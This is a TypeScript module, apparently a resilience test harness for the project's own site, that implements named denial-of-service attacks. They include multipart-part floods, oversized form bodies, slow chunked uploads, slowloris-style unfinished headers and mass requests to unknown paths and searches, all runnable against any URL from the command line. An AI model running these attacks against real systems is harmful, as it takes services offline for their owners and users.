import { type RequestOptions, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** What one sender does to the site; `size` is how hard, 1 being the full attack. Resolves when he is done. */
type Attack = (url: URL, size: number) => Promise<unknown>;

const form = '/submit-claim';
const times = (count: number, size: number) => Array.from({ length: Math.ceil(count * size) }, (_, index) => index);

/** THE list of attacks, by their names (docs/security.md). */
export const attacks = {
  'a form of 40,000 tiny parts, four times at once': (url, size) =>
    Promise.all(times(4, 1).map(() => post(url, 'multipart/form-data; boundary=x', partsOf(40_000 * size)))),
  'a text of 12 MB, ten times': (url, size) =>
    inTurn(times(10, size), 2, () =>
      post(url, 'application/x-www-form-urlencoded', [Buffer.from(`comments=${'%3C'.repeat(4_000_000)}`)]),
    ),
  '300 slow uploads of 8 MB': (url, size) => Promise.all(times(300, size).map(() => slowUpload(url))),
  '1,000 unfinished headers': async (url, size) => {
    const sockets = times(1_000, size).map(() => open(url, `GET / HTTP/1.1\r\nHost: ${url.host}\r\nX-A: `));
    await pause(4_000);
    for (const socket of sockets) socket.destroy();
  },
  '10,000 unknown addresses': (url, size) => inTurn(times(10_000, size), 20, (n) => get(url, `/nothing-${n}`)),
  '10,000 searches for openings': (url, size) =>
    inTurn(times(10_000, size), 20, (n) => get(url, `/career-openings?title=${n}`)),
  '10,000 spellings of a page': (url, size) =>
    inTurn(times(10_000, size), 20, (n) => get(url, [`/who-we-are?x=${n}`, `/r${n}/%2e%2e/who-we-are`][n % 2] ?? '/')),
  '2,000 searches': (url, size) => inTurn(times(2_000, size), 10, (n) => get(url, `/search?q=insurance+${n}`)),
} satisfies Record<string, Attack>;
export type AttackName = keyof typeof attacks;

async function inTurn(all: number[], atOnce: number, act: (n: number) => Promise<unknown>): Promise<void> {
  const next = all.values();
  const worker = async () => {
    for (const n of next) await act(n);
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
}

function get(url: URL, path: string): Promise<number> {
  return send(url, { path });
}

function post(url: URL, type: string, chunks: Iterable<Buffer>): Promise<number> {
  const headers = { 'content-type': type, origin: url.origin };
  return send(url, { path: form, method: 'POST', headers }, chunks);
}

/** As node:http sends it, without the canonical form that `fetch` makes of an address. */
function send({ hostname, port }: URL, options: RequestOptions, chunks: Iterable<Buffer> = []): Promise<number> {
  return new Promise((resolve) => {
    const sent = request({ hostname, port, agent: false, ...options }, (response) => {
      response.resume().once('close', () => resolve(response.statusCode ?? 0));
    });
    sent.once('error', () => resolve(0));
    for (const chunk of chunks) sent.write(chunk);
    sent.end();
  });
}

function* partsOf(count: number): Generator<Buffer> {
  const part = '--x\r\ncontent-disposition: form-data; name="a"; filename="a"\r\n\r\n1\r\n';
  for (let left = count; left > 0; left -= 1_000) yield Buffer.from(part.repeat(Math.min(left, 1_000)));
  yield Buffer.from('--x--\r\n');
}

async function slowUpload(url: URL): Promise<void> {
  const head = ['content-type: multipart/form-data; boundary=x', 'transfer-encoding: chunked', `origin: ${url.origin}`];
  const socket = open(url, `POST ${form} HTTP/1.1\r\nHost: ${url.host}\r\n${head.join('\r\n')}\r\n\r\n`);
  const chunk = (bytes: string) => socket.write(`${bytes.length.toString(16)}\r\n${bytes}\r\n`);
  chunk('--x\r\ncontent-disposition: form-data; name="documents"; filename="a.pdf"\r\n\r\n');
  for (let sent = 0; sent < 32 && !socket.destroyed; sent += 1) {
    chunk('x'.repeat(262_144));
    await pause(250);
  }
  socket.destroy();
}

function open({ hostname, port }: URL, first: string): Socket {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined).write(first);
  return socket;
}

// A process of its own, so that the attacker's work is not the visitors' wait: node attacks.ts <name> <url> <size>.
const [, script, name, target, size] = process.argv;
if (script === import.meta.filename && name && target) await attacks[name as AttackName](new URL(target), Number(size));
